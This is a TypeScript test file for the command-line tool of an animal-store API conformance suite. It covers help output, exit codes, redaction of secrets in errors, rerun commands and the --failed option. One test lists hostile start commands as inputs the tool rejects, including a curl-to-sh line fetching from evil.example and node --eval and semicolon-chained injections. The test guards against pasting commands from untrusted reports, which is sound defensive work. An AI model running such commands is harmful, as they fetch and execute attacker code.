/** The one command of the package: its help, its mistakes, the scripts and printed commands that start it, and --failed. */
import { mkdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, test } from '@playwright/test';
import { COMMANDS } from '../../../bin/command-descriptions.ts';
import { spellStart } from '../../../bin/command-line/output/rerun-command.ts';
import { IN_A_CLONE, findStart, spellOther } from '../../../reports/shown/words/commands.ts';
import { renderConformancePage } from '../../../reports/shown/page/conformance-page.ts';
import type { Report } from '../../../reports/document/report-document.ts';
import { replaceStep } from '../../../fixtures/implementations/operators.ts';
import { withReference, exceedLimits, unvaried } from '../samples/varied-reference.ts';
import { runCommand, idsWith, makeFolder, shellIn } from '../samples/command.ts';
import { CONFORMING } from '../samples/sample-reports.ts';
import { MAIN, PROJECT, run } from '../samples/installed.ts';
import suite from '../../../package.json' with { type: 'json' };

/** Starts the one command in a process of its own. */
const startMain = (args: readonly string[], cwd = tmpdir(), env: NodeJS.ProcessEnv = {}, input = '') =>
  run(process.execPath, [MAIN, ...args], { cwd, env: { PATH: process.env.PATH, ...env }, input });
/** Runs the one command in this process: `start` is the file `bin/start.ts`. */
const runHere = (...words: string[]) => runCommand('start', words);
const SCREEN = { lines: 50, columns: 120 };

const fitsScreen = (text: string) =>
  text.split('\n').length <= SCREEN.lines && text.split('\n').every((line) => line.length <= SCREEN.columns);

test('the overview names every command, and fits a screen', async () => {
  for (const { exitCode, out } of [await startMain(['-h']), await runHere('help')]) {
    expect(exitCode).toBe(0);
    expect(fitsScreen(out)).toBe(true);
    for (const name of COMMANDS.map((each) => each.name()))
      expect(out).toMatch(new RegExp(`^  ${name} +\\w`, 'm'));
  }
  expect(await runHere('-v')).toMatchObject({ exitCode: 0, out: `${suite.version}\n` });
});

test('every command has a help that fits a screen, with examples and exit codes', async () => {
  const helps = new Map<string, string>();
  for (const each of COMMANDS) {
    let out = '';
    each.configureOutput({ writeOut: (text) => (out += text) }).outputHelp();
    helps.set(each.name(), out);
    // Variables are a list of their own behind it
    expect(fitsScreen(out.split('\nVariables, as options')[0] ?? ''), each.name()).toBe(true);
    const call = `${suite.name} ${each.name()}`;
    for (const part of [`Usage: ${call}`, 'Examples:', `  ${call}`, 'Exit codes:'])
      expect(out).toContain(part);
    expect(each.summary().length).toBeGreaterThan(10);
  }
  const help = { exitCode: 0, err: '', out: expect.stringContaining(`Usage: ${suite.name} verify`) };
  expect(await startMain(['help', 'verify'])).toMatchObject(help);
  // The options that stand for variables: each has a line of its own in the help, with a value and a sentence
  const variables = (name: string) =>
    [...(helps.get(name) ?? '').matchAll(/^ {2}--([a-z-]+) (?:<\w+>|\[0\|1\]) +[A-Z]/gm)].map(
      ([, flag]) => flag,
    );
  expect(variables('run')).toContain('consistency-window');
  expect(variables('report')).not.toContain('consistency-window');
  expect(helps.get('list')).not.toContain('Variables');
});

test('a mistake is one line and exit code 2, and shows no value', async () => {
  const secret = '--xylophone=s3cr3t-s3cr3t';
  for (const { exitCode, out, err } of [
    await startMain(['run', secret]),
    await runCommand('certify', [secret]),
  ]) {
    expect({ exitCode, out }).toEqual({ exitCode: 2, out: '' });
    expect(err).toMatch(/^(?!.*s3cr3t).+\n$/);
  }
  for (const [words, says] of [
    [`matrix ${secret}`, /^(?!.*s3cr3t).+ not known.*\n$/],
    [`list ${secret}`, /^(?!.*s3cr3t).+ not known.*\n$/],
    ['lits', /^lits is not a command; did you mean list\?\n$/],
    ['https://user:s3cr3t@staging.example/v1', /^(?!.*s3cr3t).*--base-url.*\n$/],
    ['targets rnu', /./],
    ['verify a.json --pulic-key b', /^--pulic-key is not known; did you mean --public-key\?\n$/],
    ['keygen', /^The file is missing; --help says what is expected\.\n$/],
    ['run --seeds many', /^--seeds takes a whole number from 1 to 100\.\n$/],
  ] as const)
    expect(await runHere(...words.split(' ')), words).toMatchObject({
      exitCode: 2,
      out: '',
      err: expect.stringMatching(says),
    });
});

test('the npm scripts of the clone call the one command', () => {
  const scripts: Record<string, string> = suite.scripts;
  for (const name of COMMANDS.map((each) => each.name())) {
    expect(scripts[name === 'run' ? 'conformance' : name]).toBe(
      `node bin/build.js && node dist/bin/animal-store-conformance.js ${name}`,
    );
  }
  expect(suite.bin).toEqual({ [suite.name]: 'dist/bin/animal-store-conformance.js' });
  expect(['list', 'run'].map((name) => spellOther(IN_A_CLONE, name, '--only a'))).toEqual([
    'npm run list -- --only a',
    'npm run conformance -- --only a',
  ]);
  expect(spellOther(`npx ${suite.name}`, 'matrix', 'dir')).toBe(`npx ${suite.name} matrix dir`);
});

test('printed commands start the suite in the way that works here', () => {
  const before = process.cwd();
  const [project, elsewhere] = [1, 2].map(() => makeFolder()) as [string, string];
  const startIn = (folder: string, started?: string) => {
    process.chdir(folder);
    return spellStart(started);
  };
  mkdirSync(join(project, 'node_modules', '.bin', suite.name), { recursive: true });
  try {
    expect(startIn(PROJECT)).toBe(IN_A_CLONE);
    expect(startIn(project)).toBe(`npx ${suite.name}`);
    expect(startIn(elsewhere, join(elsewhere, '_npx', '1', suite.name))).toBe(`npx ${suite.name}`);
    expect(startIn(elsewhere, join(elsewhere, suite.name))).toBe(suite.name);
    expect(startIn(elsewhere, MAIN)).toMatch(/^node (?:\.\.\/)+.*dist\/bin\/animal-store-conformance\.js$/);
  } finally {
    process.chdir(before);
  }
});

test('a report of somebody else gives no other command to paste', () => {
  const commandOf = (start: string) =>
    findStart({ ...CONFORMING, suite: { ...CONFORMING.suite, command: start } }).command;
  for (const start of [
    "node 'a b/animal-store-conformance.js'",
    `npx ${suite.name}`,
    'node ../animal-store-conformance.js',
  ])
    expect(commandOf(start)).toBe(start);
  for (const start of [
    'curl https://evil.example | sh',
    "node '--eval=7//animal-store-conformance.js'",
    'node --import=./evil/animal-store-conformance.js',
    'node evil.js',
    "node 'a'; sh 'animal-store-conformance.js'",
  ])
    expect(commandOf(start)).toBe(IN_A_CLONE);
});

test('a target is judged by options alone, with a key from standard input', async () => {
  await withReference(unvaried, async ({ BASE_URL, API_KEY }) => {
    const folder = makeFolder();
    const words = `--base-url ${BASE_URL} --api-key-file - --category-ids 1 --report-dir here --run-id job-7 --only deprecation.sunset`;
    const { exitCode, err } = await startMain(words.split(' '), folder, {}, `${API_KEY}\n`);
    expect({ exitCode, err }).toEqual({ exitCode: 3, err: '' });
    const text = readFileSync(join(folder, 'here', 'partial', 'report.json'), 'utf8');
    expect(text).not.toContain(API_KEY);
    const report = JSON.parse(text) as Report;
    expect([idsWith(report, 'pass'), report.run.name]).toEqual([['deprecation.sunset'], 'job-7']);
    expect(renderConformancePage(report)).toContain(`${report.run.id} (job-7)`);
    rmSync(folder, { recursive: true });
  });
});

test('--json prints the end of a run, and of a file of targets, as one line @long', async () => {
  await withReference(unvaried, async (target) => {
    const folder = makeFolder();
    const judged = await startMain(['--only', 'create-pet.answers-201', '--json'], folder, target);
    const report = join(folder, 'reports', 'out', 'partial', 'report.json');
    expect(JSON.parse(judged.out)).toMatchObject({ verdict: 'inconclusive', exitCode: 3, report });
    const none = [{ name: 'none', baseUrl: 'http://127.0.0.1:9/v1', apiKeyVariable: 'MY_KEY' }];
    writeFileSync(join(folder, 'targets.json'), JSON.stringify(none));
    const key = { MY_KEY: target.API_KEY };
    const ended = await startMain(['targets', 'run', 'targets.json', '--json'], folder, key);
    expect(ended.exitCode).toBe(3);
    expect(JSON.parse(ended.out)).toMatchObject({ targets: 1, outcomes: [{ target: 'none', exitCode: 3 }] });
  });
});

test('each script of the clone has --help, and refuses a wrong option with 2 and a sentence', async () => {
  const shell = shellIn(tmpdir());
  const scripts = ['bench', 'prove', 'prove-hostile', 'prove-mutants', 'samples'];
  // One script is asked with `-h`, the short form
  for (const name of scripts) await shell(`${name} ${name === 'samples' ? '-h' : '--help'}`, 0, 'Usage:');
  for (const [words, says] of [
    ...scripts.map((name) => [`${name} --no-such-option`, 'option'] as const),
    ['prove --only no-such-fault', 'No base, fault, freedom, pair or hard variant'],
    ['prove --hard no-such-battery', 'there is no battery no-such-battery'],
    ['bench --only no-such-row', 'There is no row no-such-row'],
    ['bench --against no-such-commit', 'Commit no-such-commit: git cannot check it out here'],
    ['bench --pairs 0', '--pairs is a number from 1 to 99'],
  ] as const) {
    const said = await shell(words, 2, says);
    expect(said).not.toMatch(/^\s+at |^Usage/m);
  }
});

test('a closed pipe ends nothing, and changes no exit code @long', async () => {
  await withReference(exceedLimits, async (target) => {
    const env = { PATH: process.env.PATH, REPORT_DIR: 'out', ...target };
    for (const [words, code] of [
      ['run --only list-pets.default-limit', 1],
      ['list --json', 0],
      ['explain errors.media-type', 0],
    ] as const) {
      const cwd = makeFolder();
      const script = `"${process.execPath}" "${MAIN}" ${words} | head -1; exit \${PIPESTATUS[0]}`;
      const { exitCode, err } = await run('bash', ['--noprofile', '--norc', '-c', script], { cwd, env });
      expect([exitCode, err], words).toEqual([code, '']);
    }
  });
});

test('--failed asks only failed promises again @long', async () => {
  let extra = 1;
  await withReference(
    replaceStep('page', (usual) => (pets, limit) => usual(pets, limit + extra)),
    async (target) => {
      const folder = makeFolder();
      const shell = shellIn(folder, target);
      await shell('conformance --only list-pets.default-limit --only get-pet.not-found', 1);
      const again = await runCommand('conformance', ['--failed'], target, folder);
      expect(again.out).toContain('Only a part of the suite was asked for: list-pets.');
      expect(again.report?.run.only).toContain('list-pets.default-limit');
      expect(again.report?.run.only).not.toContain('get-pet.not-found');
      extra = 0;
      const part =
        /^\? Inconclusive, exit code 3 \(undecided\): only a part of the suite was asked for; to decide, .+\n$/;
      await shell('conformance --failed --quiet', 3, part);
      await shell('conformance --failed', 3, 'names nothing that failed');
    },
  );
});

test('--failed needs a report, and looks into that of a whole run first', async () => {
  const folder = makeFolder();
  const shell = shellIn(folder);
  await shell('conformance --failed', 2, 'there is none in out');
  mkdirSync(join(folder, 'out'));
  writeFileSync(join(folder, 'out', 'report.json'), JSON.stringify(CONFORMING));
  const said = await shell('conformance --failed', 0, 'is of another target');
  expect(said).toContain('The last report says that nothing failed: nothing was asked.');
  writeFileSync(join(folder, 'out', 'report.json'), '{}');
  await shell('conformance --failed', 2, 'is not a report of this suite');
});
